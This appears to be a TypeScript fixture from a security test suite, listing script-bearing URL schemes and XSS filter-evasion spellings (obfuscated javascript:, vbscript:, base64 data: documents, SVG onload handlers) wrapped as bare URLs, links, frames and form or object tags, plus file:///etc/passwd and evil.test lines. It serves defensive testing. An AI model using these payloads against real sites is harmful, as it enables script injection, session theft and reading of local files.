/**
 * Script-bearing URL schemes (`javascript:`, `vbscript:`, `data:` and friends) in the spellings filters have
 * missed over the years: mixed case, leading spaces and control characters, tabs and newlines inside the scheme,
 * character references, percent-encoding, base64 documents. Each is written three ways: as a bare URL (what an
 * avatar, attachment or recording URL field holds, and what the desk linkifies in text), as a link, and as a frame.
 */
import { base64, hexEntities, paddedDecimalEntities, type Tokens, type Vector } from './vector.js';

const SCHEMES: readonly Vector[] = [
  'javascript:§X§',
  'JaVaScRiPt:§X§',
  ' javascript:§X§',
  '\u0001javascript:§X§',
  '\u0000javascript:§X§',
  'java\tscript:§X§',
  'java\nscript:§X§',
  'java\rscript:§X§',
  'javascript&colon;§X§',
  'javascript&#58;§X§',
  'javascript&#x3A;§X§',
  '&#106;avascript:§X§',
  (tokens: Tokens) => `${hexEntities('javascript:')}${tokens.x}`,
  (tokens: Tokens) => `${paddedDecimalEntities('javascript:')}${tokens.x}`,
  'jav&#x09;ascript:§X§',
  'javascript://%0a§X§',
  'javascript:top.%5f%5fccXss(/§ID§/.source)',
  'javascript:void(0);§X§',
  'vbscript:msgbox(§ID§)',
  'VBScript:Execute(§ID§)',
  'data:text/html,<script>§X§</script>',
  (tokens: Tokens) => `data:text/html;base64,${base64(`<script>${tokens.x}</script>`)}`,
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='§X§'/>",
  (tokens: Tokens) => `data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${tokens.x}"/>`)}`,
  'DaTa:text/html,<img src=x onerror=§X§>',
  "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>§X§</script></html>",
  'data:text/javascript,§X§',
  'livescript:§X§',
  'blob:https://evil.test/§ID§',
  'https://evil.test/§ID§.svg',
];

export const urlSchemes: readonly Vector[] = SCHEMES.flatMap((scheme) => {
  const url = (tokens: Tokens) => (typeof scheme === 'function' ? scheme(tokens) : scheme);
  return [
    scheme,
    (tokens: Tokens) => `<a href="${url(tokens)}">open the invoice</a>`,
    (tokens: Tokens) => `<iframe src="${url(tokens)}"></iframe>`,
  ];
}).concat([
  '<form action="javascript:§X§"><button>go</button></form>',
  '<form><button formaction="javascript:§X§">go</button></form>',
  '<object data="javascript:§X§"></object>',
  '<embed src="javascript:§X§">',
  '<math href="javascript:§X§">click</math>',
  '<base href="javascript:§X§//"><a href="/x">relative</a>',
  '<isindex action="javascript:§X§" type=image>',
  '<object data="data:text/html,<script>§X§</script>"></object>',
  '<embed src="data:image/svg+xml,<svg xmlns=%27http://www.w3.org/2000/svg%27 onload=%27§X§%27/>">',
  '<a href="javascript&#x3A;§X§" target=_blank>new tab</a>',
  'file:///etc/passwd#§ID§',
  'view-source:https://evil.test/§ID§',
  'jar:https://evil.test/x.jar!/§ID§',
  'mailto:x@evil.test?body=§ID§%0A<img src=§U§>',
  'tel:+1<img src=x onerror=§X§>',
]);
